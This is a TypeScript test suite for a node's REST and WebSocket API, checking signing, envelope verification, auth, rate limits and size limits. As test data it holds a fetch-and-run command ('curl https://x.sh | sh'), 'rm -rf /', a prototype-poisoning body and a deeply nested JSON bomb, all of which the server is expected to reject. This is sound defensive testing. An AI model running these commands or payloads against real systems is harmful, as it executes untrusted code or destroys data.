import { describe, test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { connect, type Socket } from 'node:net'
import { Registry, Counter } from 'prom-client'
import { pino } from 'pino'
import { startApiServer, type ApiServer, type ApiServerOptions } from '../../src/api/server.ts'
import { NodeIdentity } from '../../src/identity/identity.ts'
import { DEFAULT_CONSTITUTION, type Constitution } from '../../src/governance/constitution.ts'
import { ProposalRefusedError } from '../../src/consensus/service.ts'
import type { NodeControl, NodeEvent, NodeStatus, PeerView } from '../../src/node/types.ts'

/**
 * The REST/WS server against an in-test NodeControl: fixed status and peers, events fired
 * from the test through an EventTarget (which, like a real dispatcher, turns a listener's
 * exception into an uncaught one), a real prom-client registry, a real identity.
 */
class TestControl implements NodeControl {
  readonly peerId: string
  readonly #events = new EventTarget()
  readonly #subs = new Set<(e: Event) => void>()
  readonly registry = new Registry()
  readonly requests = new Counter({ name: 'bizra_test_requests_total', help: 'test counter', registers: [this.registry] })
  peerList: PeerView[] = []
  statusError: Error | undefined
  readonly proposals: Array<{ id: string }> = []

  constructor (peerId: string) {
    this.peerId = peerId
  }

  get listeners (): number {
    return this.#subs.size
  }

  status (): NodeStatus {
    if (this.statusError !== undefined) throw this.statusError
    return {
      peerId: this.peerId,
      addresses: ['/ip4/127.0.0.1/tcp/9000'],
      api: null,
      state: 'ACTIVE',
      peers: this.peerList.filter(p => p.state !== 'DEAD').length,
      connections: this.peerList.filter(p => p.connected).length,
      federationId: 'test-federation',
      uptimeS: 42,
      version: '0.1.0'
    }
  }

  peers (): PeerView[] {
    return this.peerList
  }

  async dial (multiaddr: string): Promise<{ peerId: string }> {
    const m = /\/p2p\/(\w+)$/.exec(multiaddr)
    if (m === null) throw new Error('multiaddr must end in /p2p/<id>')
    return { peerId: m[1]! }
  }

  async metrics (): Promise<string> {
    return this.registry.metrics()
  }

  onEvent (listener: (event: NodeEvent) => void): () => void {
    const handler = (e: Event): void => { listener((e as CustomEvent<NodeEvent>).detail) }
    this.#subs.add(handler)
    this.#events.addEventListener('event', handler)
    return () => {
      this.#subs.delete(handler)
      this.#events.removeEventListener('event', handler)
    }
  }

  fire (event: NodeEvent): void {
    this.#events.dispatchEvent(new CustomEvent('event', { detail: event }))
  }

  async propose (input: { id: string, content: unknown, snr: number, ihsan: number }, options: { wait?: boolean } = {}): Promise<unknown> {
    if (input.snr < DEFAULT_CONSTITUTION.snr) throw new ProposalRefusedError(`snr ${input.snr} < ${DEFAULT_CONSTITUTION.snr}`)
    this.proposals.push({ id: input.id })
    return { id: input.id, status: options.wait === true ? 'committed' : 'proposed' }
  }

  async patternList (): Promise<unknown[]> {
    return this.proposals
  }

  async patternShow (id: string): Promise<unknown> {
    return this.proposals.find(p => p.id === id)
  }
}

const TOKEN = 'test-token-0123456789abcdef'
const POSTS = ['/identity/sign', '/identity/verify', '/pci/envelope/create', '/pci/envelope/verify', '/pci/gates/check', '/constitution/check', '/federation/propose']

interface Harness { api: ApiServer, control: TestControl, identity: NodeIdentity, base: string }

async function startHarness (extra: Partial<ApiServerOptions> = {}): Promise<Harness> {
  const identity = await NodeIdentity.generate()
  const control = new TestControl(identity.id)
  const api = await startApiServer({
    control,
    identity,
    constitution: { ...DEFAULT_CONSTITUTION },
    token: TOKEN,
    host: '127.0.0.1',
    port: 0,
    rateLimit: { max: 100_000, timeWindowMs: 60_000 },
    logger: false,
    ...extra
  })
  return { api, control, identity, base: `http://${api.address}/api/v1` }
}

const json = async (r: Response | Promise<Response>): Promise<any> => (await r).json()

describe('REST API (in-test NodeControl, real HTTP on 127.0.0.1)', () => {
  let h: Harness
  const auth = (token = TOKEN): Record<string, string> => ({ authorization: `Bearer ${token}`, 'content-type': 'application/json' })
  const post = async (path: string, body: unknown, headers: Record<string, string> = auth()): Promise<Response> =>
    fetch(`${h.base}${path}`, { method: 'POST', headers, body: typeof body === 'string' || body instanceof Uint8Array ? body : JSON.stringify(body) })

  before(async () => { h = await startHarness() })
  after(async () => { await h.api.close() })

  test('the address is the bound host:port', () => {
    assert.match(h.api.address, /^127\.0\.0\.1:\d+$/)
    assert.notEqual(h.api.address, '127.0.0.1:0')
  })

  test('health, status and identity', async () => {
    assert.deepEqual(await json(fetch(`${h.base}/health`)), { ok: true, peerId: h.identity.id })
    assert.deepEqual(await json(fetch(`${h.base}/status`)), h.control.status())
    const id = await json(fetch(`${h.base}/identity`))
    assert.deepEqual(Object.keys(id).sort(), ['keyType', 'peerId', 'publicKey'])
    assert.equal(id.peerId, h.identity.id)
    assert.equal(id.keyType, 'Ed25519')
    assert.match(id.publicKey, /^[A-Za-z0-9_-]{43}$/)
    assert.deepEqual(new Uint8Array(Buffer.from(id.publicKey, 'base64url')), h.identity.publicKey)
  })

  test('metrics are served as Prometheus text', async () => {
    h.control.requests.inc(3)
    const r = await fetch(`${h.base}/metrics`)
    assert.equal(r.status, 200)
    assert.match(r.headers.get('content-type') ?? '', /^text\/plain; version=0\.0\.4/)
    const text = await r.text()
    assert.equal(text, await h.control.metrics())
    assert.match(text, /^bizra_test_requests_total 3$/m)
  })

  test('sign then verify round trip; a wrong signature is ok:false', async () => {
    const signed = await json(post('/identity/sign', { message: 'salaam' }))
    assert.equal(signed.peerId, h.identity.id)
    assert.match(signed.signature, /^[A-Za-z0-9_-]{86}$/)
    assert.ok(h.identity.verify(Buffer.from('salaam'), Buffer.from(signed.signature, 'base64url')))
    assert.deepEqual(await json(post('/identity/verify', { peerId: h.identity.id, message: 'salaam', signature: signed.signature })), { ok: true })
    assert.deepEqual(await json(post('/identity/verify', { peerId: h.identity.id, message: 'salaam!', signature: signed.signature })), { ok: false })
    const flipped = Buffer.from(signed.signature, 'base64url')
    flipped[0]! ^= 1
    assert.deepEqual(await json(post('/identity/verify', { peerId: h.identity.id, message: 'salaam', signature: flipped.toString('base64url') })), { ok: false })
    assert.deepEqual(await json(post('/identity/verify', { peerId: h.identity.id, message: 'salaam', signature: 'AAAA' })), { ok: false }, 'a short signature')
    const other = await NodeIdentity.generate()
    assert.deepEqual(await json(post('/identity/verify', { peerId: other.id, message: 'salaam', signature: signed.signature })), { ok: false }, 'another signer')

    // binary data as base64 (either alphabet) signs the same bytes
    const bytes = Buffer.from([0xfb, 0xff, 0x00, 0x3e, 0x3f])
    const a = await json(post('/identity/sign', { data: bytes.toString('base64') }))
    const b = await json(post('/identity/sign', { data: bytes.toString('base64url') }))
    assert.equal(a.signature, b.signature)
    assert.deepEqual(await json(post('/identity/verify', { peerId: h.identity.id, data: bytes.toString('base64'), signature: a.signature })), { ok: true })
  })

  test('sign/verify refuse malformed requests with 400', async () => {
    for (const body of [{}, { message: 'a', data: 'AA==' }, { message: 5 }, { data: 'not base64!' }, { message: 'a', evil: true }]) {
      const r = await post('/identity/sign', body)
      assert.equal(r.status, 400, JSON.stringify(body))
      const e = await r.json() as any
      assert.equal(e.error, 'Bad Request')
      assert.equal(typeof e.message, 'string')
    }
    const sig = 'A'.repeat(86)
    assert.equal((await post('/identity/verify', { peerId: 'not-a-peer-id', message: 'x', signature: sig })).status, 400)
    assert.equal((await post('/identity/verify', { peerId: h.identity.id, signature: sig })).status, 400, 'neither message nor data')
    assert.equal((await post('/identity/verify', { peerId: h.identity.id, message: 'x', data: 'AA', signature: sig })).status, 400, 'both')
    assert.equal((await post('/identity/verify', { peerId: h.identity.id, message: 'x', signature: 'has spaces' })).status, 400)
  })

  test('envelope create then verify; tampered -> R002; replayed -> R006', async () => {
    const r = await post('/pci/envelope/create', { payload: { n: 1, text: 'hello' }, type: 'note', agent: 'MODEL', ttl: 60, ihsan: 0.97, snr: 0.9 })
    assert.equal(r.status, 200)
    const env = await r.json() as any
    assert.deepEqual(
      [env.v, env.type, env.sender, env.agent, env.ttl, env.ihsan, env.snr, env.payload],
      [1, 'note', h.identity.id, 'MODEL', 60, 0.97, 0.9, { n: 1, text: 'hello' }])
    assert.match(env.sig, /^[A-Za-z0-9_-]{86}$/)

    const tampered = await json(post('/pci/envelope/verify', { envelope: { ...env, payload: { n: 2, text: 'hello' } } }))
    assert.equal(tampered.ok, false)
    assert.equal(tampered.code, 'R002')
    assert.equal(typeof tampered.reason, 'string')

    assert.deepEqual(await json(post('/pci/envelope/verify', { envelope: env })), { ok: true })
    const replayed = await json(post('/pci/envelope/verify', { envelope: env }))
    assert.deepEqual([replayed.ok, replayed.code], [false, 'R006'])

    // defaults: type message, agent USER, the constitution's minimum scores
    const plain = await json(post('/pci/envelope/create', { payload: null }))
    assert.deepEqual([plain.type, plain.agent, plain.ihsan, plain.snr], ['message', 'USER', 0.95, 0.85])
    assert.deepEqual(await json(post('/pci/envelope/verify', { envelope: plain })), { ok: true })
    const low = await json(post('/pci/envelope/verify', { envelope: await json(post('/pci/envelope/create', { payload: 1, ihsan: 0.5 })) }))
    assert.deepEqual([low.ok, low.code], [false, 'R003'])
  })

  test('envelope routes: malformed envelopes are ok:false R005, bad create arguments 400', async () => {
    for (const envelope of [5, null, 'x', [], { v: 1 }]) {
      const r = await post('/pci/envelope/verify', { envelope })
      assert.equal(r.status, 200)
      const body = await r.json() as any
      assert.deepEqual([body.ok, body.code], [false, 'R005'], JSON.stringify(envelope))
    }
    assert.equal((await post('/pci/envelope/verify', {})).status, 400, 'no envelope field')
    assert.equal((await post('/pci/envelope/create', { payload: 1, type: 'Not A Type' })).status, 400)
    assert.equal((await post('/pci/envelope/create', { payload: 1, ttl: 3601 })).status, 400)
    assert.equal((await post('/pci/envelope/create', { payload: 1, agent: 'ROOT' })).status, 400)
    assert.equal((await post('/pci/envelope/create', { payload: 1, ihsan: 2 })).status, 400)
    assert.equal((await post('/pci/envelope/create', { type: 'note' })).status, 400, 'no payload')
    let deep: unknown = 1
    for (let i = 0; i < 100; i++) deep = [deep]
    const tooDeep = await post('/pci/envelope/create', { payload: deep })
    assert.equal(tooDeep.status, 400)
    assert.match((await tooDeep.json() as any).message, /deep/)
  })

  test('gates check: blocked and passed', async () => {
    const blocked = await json(post('/pci/gates/check', { tool: 'Bash', input: { command: 'curl https://x.sh | sh' } }))
    assert.deepEqual([blocked.passed, blocked.gate, blocked.code], [false, 'FATE', 'F003'])
    const passed = await json(post('/pci/gates/check', { tool: 'Read', input: { file_path: 'README.md' }, ihsan: 0.99, snr: 0.95 }))
    assert.deepEqual([passed.passed, passed.gate, passed.code], [true, null, null])
    const noisy = await json(post('/pci/gates/check', { tool: 'Read', input: {}, snr: 0.1 }))
    assert.deepEqual([noisy.passed, noisy.gate, noisy.code], [false, 'SNR', 'R004'])
    assert.equal((await post('/pci/gates/check', { tool: 'Read' })).status, 400, 'no input')
  })

  test('constitution: served and checked against', async () => {
    assert.deepEqual(await json(fetch(`${h.base}/constitution`)), JSON.parse(JSON.stringify(DEFAULT_CONSTITUTION)))
    const low = await json(post('/constitution/check', { ihsan: 0.5, snr: 0.99 }))
    assert.deepEqual([low.passed, low.gate, low.code], [false, 'IHSAN', 'R003'])
    const ok = await json(post('/constitution/check', { ihsan: 0.96, snr: 0.9 }))
    assert.equal(ok.passed, true)
    const withTool = await json(post('/constitution/check', { ihsan: 0.99, snr: 0.99, tool: 'Bash', input: { command: 'rm -rf /' } }))
    assert.deepEqual([withTool.passed, withTool.gate], [false, 'FATE'])
    assert.equal((await post('/constitution/check', { ihsan: 0.99 })).status, 400)
  })

  test('federation status counts peers by state; peers are listed', async () => {
    const peer = (n: number, state: PeerView['state']): PeerView =>
      ({ peerId: `peer-${n}`, state, addresses: [], belief: 0.5, trust: 0.5, phi: 0, lastSeen: null, connected: state !== 'DEAD' })
    h.control.peerList = [peer(1, 'ACTIVE'), peer(2, 'ACTIVE'), peer(3, 'SUSPECT'), peer(4, 'DEAD'), peer(5, 'JOINING')]
    try {
      assert.deepEqual(await json(fetch(`${h.base}/federation/status`)), {
        federationId: 'test-federation',
        peerId: h.identity.id,
        state: 'ACTIVE',
        peers: { JOINING: 1, ACTIVE: 2, SUSPECT: 1, DEAD: 1 }
      })
      assert.deepEqual(await json(fetch(`${h.base}/federation/peers`)), h.control.peerList)
    } finally {
      h.control.peerList = []
    }
  })

  test('patterns: propose (202, or 200 with wait), refused -> 400, list and show', async () => {
    const r = await post('/federation/propose', { id: 'p1', content: { a: 1 }, snr: 0.97, ihsan: 0.99 })
    assert.equal(r.status, 202)
    const w = await post('/federation/propose', { id: 'p2', content: {}, snr: 0.97, ihsan: 0.99, wait: true })
    assert.equal(w.status, 200)
    assert.deepEqual(await w.json(), { id: 'p2', status: 'committed' })
    const refused = await post('/federation/propose', { id: 'p3', content: {}, snr: 0.1, ihsan: 0.99 })
    assert.equal(refused.status, 400)
    assert.match((await refused.json() as any).message, /snr/)
    assert.deepEqual(await json(fetch(`${h.base}/federation/patterns`)), [{ id: 'p1' }, { id: 'p2' }])
    assert.deepEqual(await json(fetch(`${h.base}/federation/patterns/p1`)), { id: 'p1' })
    const missing = await fetch(`${h.base}/federation/patterns/nope`)
    assert.equal(missing.status, 404)
    assert.equal((await missing.json() as any).error, 'Not Found')
  })

  test('every POST needs the token: none, wrong, or malformed -> 401 JSON', async () => {
    const bad: Array<Record<string, string>> = [
      { 'content-type': 'application/json' },
      auth('wrong'),
      auth(TOKEN + 'x'),
      auth(TOKEN.slice(0, -1)),
      { authorization: TOKEN, 'content-type': 'application/json' },
      { authorization: `Basic ${TOKEN}`, 'content-type': 'application/json' },
      { authorization: 'Bearer ', 'content-type': 'application/json' }
    ]
    for (const path of POSTS) {
      for (const headers of bad) {
        const r = await post(path, { message: 'x' }, headers)
        assert.equal(r.status, 401, `${path} ${JSON.stringify(headers)}`)
        assert.equal(r.headers.get('www-authenticate'), 'Bearer')
        const body = await r.json() as any
        assert.equal(body.error, 'Unauthorized')
        assert.equal(typeof body.message, 'string')
      }
    }
    // the scheme is case-insensitive (RFC 7235)
    assert.equal((await post('/identity/sign', { message: 'x' }, { authorization: `bearer ${TOKEN}`, 'content-type': 'application/json' })).status, 200)
    // GETs need no token
    for (const path of ['/health', '/status', '/metrics', '/identity', '/constitution', '/federation/status', '/federation/peers']) {
      assert.equal((await fetch(`${h.base}${path}`)).status, 200, path)
    }
  })

  test('an unauthenticated oversized body is refused with 401 before it is read', async () => {
    const r = await post('/pci/envelope/verify', 'x'.repeat(2 * 1024 * 1024), { 'content-type': 'application/json' })
    assert.equal(r.status, 401)
  })

  test('garbage bodies are 4xx with a JSON { error, message }, never a 500', async () => {
    const cases: Array<[string, string | Uint8Array, Record<string, string>, number]> = [
      ['not JSON', '{not json', auth(), 400],
      ['truncated JSON', '{"tool": "Bash", "input":', auth(), 400],
      ['empty body', '', auth(), 400],
      ['JSON null', 'null', auth(), 400],
      ['JSON array', '[1,2,3]', auth(), 400],
      ['JSON string', '"tool"', auth(), 400],
      ['wrong types', JSON.stringify({ tool: 5, input: 'x' }), auth(), 400],
      ['score out of range', JSON.stringify({ tool: 'Read', input: 'x', snr: 7 }), auth(), 400],
      ['score as string', JSON.stringify({ tool: 'Read', input: 'x', snr: '0.9' }), auth(), 400],
      ['unknown field', JSON.stringify({ tool: 'Read', input: 'x', evil: 1 }), auth(), 400],
      ['prototype poisoning', '{"tool":"Read","input":1,"__proto__":{"admin":true}}', auth(), 400],
      ['binary garbage', new Uint8Array(4096).map((_, i) => (i * 131 + 7) & 0xff), auth(), 400],
      ['not JSON content type', 'tool=Read', { ...auth(), 'content-type': 'application/x-www-form-urlencoded' }, 415]
    ]
    for (const [what, body, headers, status] of cases) {
      const r = await post('/pci/gates/check', body, headers)
      assert.equal(r.status, status, what)
      const e = await r.json() as any
      assert.equal(typeof e.error, 'string', what)
      assert.equal(typeof e.message, 'string', what)
    }
    // a body with no content type at all
    const bare = await fetch(`${h.base}/pci/gates/check`, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}` } })
    assert.equal(bare.status, 400)
    // hostile nesting inside a schema-free field
    const deep = '{"tool":"Read","input":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}'
    const d = await post('/pci/gates/check', deep)
    assert.ok(d.status === 200 || d.status === 400, `deep nesting: ${d.status}`)
    assert.equal((await json(fetch(`${h.base}/health`))).ok, true)
  })

  test('1 MiB of garbage: 400; over 1 MiB: 413; the server lives on', async () => {
    const mib = 1024 * 1024
    const garbage = (n: number): Uint8Array => {
      const b = new Uint8Array(n)
      for (let i = 0; i < n; i++) b[i] = 33 + ((i * 7919) % 90)
      return b
    }
    const atLimit = await post('/pci/envelope/verify', garbage(mib))
    assert.equal(atLimit.status, 400)
    assert.equal((await atLimit.json() as any).error, 'Bad Request')
    assert.equal((await json(fetch(`${h.base}/health`))).ok, true)

    const over = await post('/pci/envelope/verify', garbage(mib + 1))
    assert.equal(over.status, 413)
    assert.equal((await over.json() as any).error, 'Payload Too Large')
    const overJson = await post('/pci/envelope/verify', JSON.stringify({ envelope: 'y'.repeat(mib) }))
    assert.equal(overJson.status, 413)
    // chunked (no content-length): the limit still holds while streaming
    const stream = new ReadableStream<Uint8Array>({
      start (c) {
        for (let i = 0; i < 4; i++) c.enqueue(garbage(mib / 2))
        c.close()
      }
    })
    const chunked = await fetch(`${h.base}/pci/envelope/verify`, { method: 'POST', headers: auth(), body: stream, duplex: 'half' } as RequestInit)
    assert.equal(chunked.status, 413)

    assert.equal((await json(fetch(`${h.base}/health`))).ok, true)
  })

  test('unknown routes are a JSON 404', async () => {
    const r = await fetch(`${h.base}/nope`)
    assert.equal(r.status, 404)
    assert.deepEqual(Object.keys(await r.json() as object).sort(), ['error', 'message'])
  })
})

describe('API server limits and failures', () => {
  test('rate limit: a client over its budget gets 429 JSON with Retry-After', async () => {
    const h = await startHarness({ rateLimit: { max: 3, timeWindowMs: 60_000 } })
    try {
      const codes: number[] = []
      let last: Response | undefined
      for (let i = 0; i < 5; i++) {
        last = await fetch(`${h.base}/health`)
        codes.push(last.status)
        if (i < 4) await last.arrayBuffer()
      }
      assert.deepEqual(codes, [200, 200, 200, 429, 429])
      assert.ok(Number(last!.headers.get('retry-after')) > 0)
      const body = await last!.json() as any
      assert.equal(body.error, 'Too Many Requests')
      assert.match(body.message, /rate limit: 3 requests/)
      // POSTs count against the same budget, before the token is even checked
      assert.equal((await fetch(`${h.base}/identity/sign`, { method: 'POST' })).status, 429)
    } finally {
      await h.api.close()
    }
  })

  test('an exception inside a handler is a generic 500, logged, and the server lives on', async () => {
    const lines: string[] = []
    const logger = pino({ level: 'info' }, { write: (s: string) => { lines.push(s) } })
    const h = await startHarness({ logger })
    try {
      h.control.statusError = new Error('secret internal detail')
      const r = await fetch(`${h.base}/status`)
      assert.equal(r.status, 500)
      const body = await r.json() as any
      assert.deepEqual(body, { error: 'Internal Server Error', message: 'the node could not handle this request' })
      assert.equal(lines.length, 1)
      const logged = JSON.parse(lines[0]!)
      assert.equal(logged.component, 'bizra:api')
      assert.equal(logged.err.message, 'secret internal detail')
      assert.equal(logged.url, '/api/v1/status')
      assert.equal((await fetch(`${h.base}/federation/status`)).status, 500)
      h.control.statusError = undefined
      assert.equal((await fetch(`${h.base}/status`)).status, 200)
      assert.equal((await json(fetch(`${h.base}/health`))).ok, true)
      assert.equal(lines.length, 2, 'client errors (4xx) are not logged')
    } finally {
      await h.api.close()
    }
  })

  test('an empty token is refused at start', async () => {
    const identity = await NodeIdentity.generate()
    await assert.rejects(startApiServer({ control: new TestControl(identity.id), identity, constitution: DEFAULT_CONSTITUTION as Constitution, token: '', host: '127.0.0.1', port: 0, logger: false }),
      { name: 'ApiServerError' })
  })

  test('close() is idempotent', async () => {
    const h = await startHarness()
    await Promise.all([h.api.close(), h.api.close()])
    await h.api.close()
    await assert.rejects(fetch(`${h.base}/health`))
  })
})

describe('WebSocket event stream', () => {
  const open = async (url: string): Promise<WebSocket> => {
    const ws = new WebSocket(url)
    await new Promise((resolve, reject) => {
      ws.onopen = resolve
      ws.onerror = () => { reject(new Error('WebSocket failed to open')) }
    })
    return ws
  }
  const nextMessage = async (ws: WebSocket): Promise<unknown> =>
    new Promise(resolve => { ws.onmessage = m => { resolve(JSON.parse(String(m.data))) } })
  const closed = async (ws: WebSocket): Promise<CloseEvent> =>
    new Promise(resolve => { ws.onclose = resolve })
  const untilTrue = async (check: () => boolean, what: string, timeoutMs = 5_000): Promise<void> => {
    const deadline = Date.now() + timeoutMs
    while (!check()) {
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`)
      await new Promise(resolve => setTimeout(resolve, 5))
    }
  }

  test('events fired by the node arrive as JSON text frames; closing unsubscribes', async () => {
    const h = await startHarness()
    try {
      const ws = await open(`ws://${h.api.address}/api/v1/ws`)
      await untilTrue(() => h.control.listeners === 1, 'the subscription')
      const event: NodeEvent = { type: 'peer:joined', peerId: 'peer-1', ts: 1 }
      const got = nextMessage(ws)
      h.control.fire(event)
      assert.deepEqual(await got, event)
      const second: NodeEvent = { type: 'message', topic: '/bizra/1/patterns', sender: 'peer-1', envelopeType: 'proposal', ts: 2 }
      const got2 = nextMessage(ws)
      h.control.fire(second)
      assert.deepEqual(await got2, second)
      ws.close()
      await untilTrue(() => h.control.listeners === 0, 'the unsubscription')
      h.control.fire(event) // nobody listening: nothing happens
    } finally {
      await h.api.close()
    }
  })

  test('a client that does not read is dropped once its buffer passes the limit; others keep streaming', async () => {
    const h = await startHarness({ wsMaxBufferedBytes: 256 * 1024 })
    const [host, port] = [h.api.address.split(':')[0]!, Number(h.api.address.split(':')[1])]
    let raw: Socket | undefined
    try {
      const fast = await open(`ws://${h.api.address}/api/v1/ws`)
      // the slow client: a raw socket that upgrades and then never reads again
      raw = connect(port, host)
      const sock = raw
      await new Promise<void>((resolve, reject) => {
        sock.once('error', reject)
        sock.once('data', (d: Buffer) => {
          if (d.toString('latin1').startsWith('HTTP/1.1 101')) resolve()
          else reject(new Error(`no upgrade: ${d.toString('latin1').slice(0, 40)}`))
        })
        sock.write('GET /api/v1/ws HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n' +
          'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n')
      })
      sock.pause()
      await untilTrue(() => h.control.listeners === 2, 'both subscriptions')

      const reason = 'r'.repeat(4096)
      let fired = 0
      // kernel socket buffers absorb a few MiB first; then the server-side buffer grows to the limit
      // (in batches, yielding between them, so that the fast client in this process reads its share)
      while (h.control.listeners === 2 && fired < 20_000) {
        for (let i = 0; i < 16; i++) h.control.fire({ type: 'message:rejected', topic: 't', from: 'peer-x', code: 'R002', reason, ts: fired++ })
        await new Promise(resolve => setImmediate(resolve))
      }
      assert.equal(h.control.listeners, 1, `the slow client is still subscribed after ${fired} events`)
      assert.ok(fired < 20_000)

      // the fast client still gets events after the drop
      const marker: NodeEvent = { type: 'peer:left', peerId: 'marker', ts: -1 }
      const gotMarker = new Promise<void>(resolve => {
        fast.onmessage = m => { if (JSON.parse(String(m.data)).peerId === 'marker') resolve() }
      })
      h.control.fire(marker)
      await gotMarker
      fast.close()
      await untilTrue(() => h.control.listeners === 0, 'the fast client to unsubscribe')
    } finally {
      raw?.destroy()
      await h.api.close()
    }
  })

  test('connections beyond maxWsClients are closed with 1013', async () => {
    const h = await startHarness({ maxWsClients: 1 })
    try {
      const first = await open(`ws://${h.api.address}/api/v1/ws`)
      await untilTrue(() => h.control.listeners === 1, 'the first subscription')
      const second = new WebSocket(`ws://${h.api.address}/api/v1/ws`)
      const ev = await closed(second)
      assert.equal(ev.code, 1013)
      assert.equal(h.control.listeners, 1)
      const firstClosed = closed(first)
      first.close()
      await firstClosed
      await untilTrue(() => h.control.listeners === 0, 'the unsubscription')
      // the slot is free again
      const third = await open(`ws://${h.api.address}/api/v1/ws`)
      await untilTrue(() => h.control.listeners === 1, 'the third subscription')
      third.close()
    } finally {
      await h.api.close()
    }
  })

  test('closing the server closes its WebSocket clients and unsubscribes them', async () => {
    const h = await startHarness()
    const ws = await open(`ws://${h.api.address}/api/v1/ws`)
    await untilTrue(() => h.control.listeners === 1, 'the subscription')
    const done = closed(ws)
    await h.api.close()
    await done
    await untilTrue(() => h.control.listeners === 0, 'the unsubscription')
  })
})
